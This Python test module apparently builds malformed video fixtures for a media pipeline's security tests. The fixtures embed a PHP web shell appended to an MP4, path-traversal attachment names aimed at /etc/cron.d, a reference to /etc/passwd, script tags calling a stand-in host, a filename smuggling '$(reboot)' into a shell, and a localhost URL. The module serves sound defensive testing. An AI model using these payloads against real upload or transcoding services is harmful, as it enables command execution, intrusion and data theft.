"""Videos that carry something else, or that point elsewhere."""

import io
import struct
import zipfile
from pathlib import Path

from tests.corpus.malformed import video, written
from tests.corpus.malformed.boxes import box, full, rewrite
from tests.media.clips import make_clip, run_ffmpeg


def attached(folder: Path, content: bytes, mime: str, count: int = 1) -> Path:
    make_clip(folder / "a.mp4", seconds=1)
    (folder / "x").write_bytes(content)
    more: list[str] = []
    for number in range(count):
        more += ["-attach", str(folder / "x"), f"-metadata:s:t:{number}", f"mimetype={mime}"]
        more += [f"-metadata:s:t:{number}", "filename=../../../../etc/cron.d/x"]
    run_ffmpeg("-i", str(folder / "a.mp4"), *more, "-c", "copy", str(folder / "b.mkv"))
    return folder / "b.mkv"


def elsewhere(folder: Path, entry: bytes) -> Path:
    """A MOV that says of its pictures that they lie in another place."""
    content = make_clip(folder / "a.mov", seconds=1, sound=False).read_bytes()
    return written(folder, rewrite(content, b"dref", lambda old: old[:4] + struct.pack(">I", 1) + entry))


@video("contained")
def pictures_at_an_address(folder: Path, at: str) -> Path:
    return elsewhere(folder, full(b"url ", f"{at}/a.mov\0".encode()))


@video("either")
def pictures_in_a_file_by_alias(folder: Path, at: str) -> Path:
    path = b"/etc/passwd"
    alias = struct.pack(">4sHHH", b"\0\0\0\0", 150 + len(path), 2, 0) + bytes(140)
    alias += struct.pack(">hH", 2, len(path)) + path + struct.pack(">hH", -1, 0)
    return elsewhere(folder, full(b"alis", alias))


@video("refused")
def film_that_refers_to_another(folder: Path, at: str) -> Path:
    target = f"{at}/a.mov\0".encode()
    reference = full(b"rdrf", b"url " + struct.pack(">I", len(target)) + target)
    return written(folder, box(b"ftyp", b"qt  \0\0\2\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", reference))))


@video("refused")
def font_attached(folder: Path, at: str) -> Path:
    return attached(folder, b"\0\1\0\0" + bytes(1000), "application/x-truetype-font")


@video("refused")
def page_attached(folder: Path, at: str) -> Path:
    return attached(folder, f"<script src={at}/x.js></script>".encode(), "text/html")


@video("refused")
def many_attached(folder: Path, at: str) -> Path:
    return attached(folder, bytes(10), "application/octet-stream", count=40)


@video("contained")
def archive_behind_it(folder: Path, at: str) -> Path:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as made:
        made.writestr("x.php", "<?php system($_GET['x']);")
    return written(folder, make_clip(folder / "a.mp4", seconds=1).read_bytes() + content.getvalue())


@video("contained")
def playlist_behind_it(folder: Path, at: str) -> Path:
    return written(folder, make_clip(folder / "a.mp4", seconds=1).read_bytes() + f"\n#EXTM3U\n{at}/a.ts\n".encode())


@video("contained")
def page_in_its_free_space(folder: Path, at: str) -> Path:
    content = make_clip(folder / "a.mp4", seconds=1).read_bytes()
    return written(folder, content + box(b"free", f"<html><script src={at}/x.js></script>".encode()))


@video("contained")
def page_in_its_title(folder: Path, at: str) -> Path:
    title = f"title=</title><script src={at}/x.js></script>\nStream #0:0: Video: none"
    return make_clip(folder / "a.mp4", seconds=1, more=("-metadata", title))


@video("contained", name_sent="$(reboot); -i concat:a|b %d.mp4")
def name_for_a_shell(folder: Path, at: str) -> Path:
    return make_clip(folder / "a.mp4", seconds=1)


@video("contained", name_sent="../../../../etc/passwd\u202e4pm.exe")
def name_that_climbs(folder: Path, at: str) -> Path:
    return make_clip(folder / "a.mp4", seconds=1)


@video("contained", name_sent="http://127.0.0.1/a.m3u8?x=.mp4")
def name_that_is_an_address(folder: Path, at: str) -> Path:
    return make_clip(folder / "a.mp4", seconds=1)
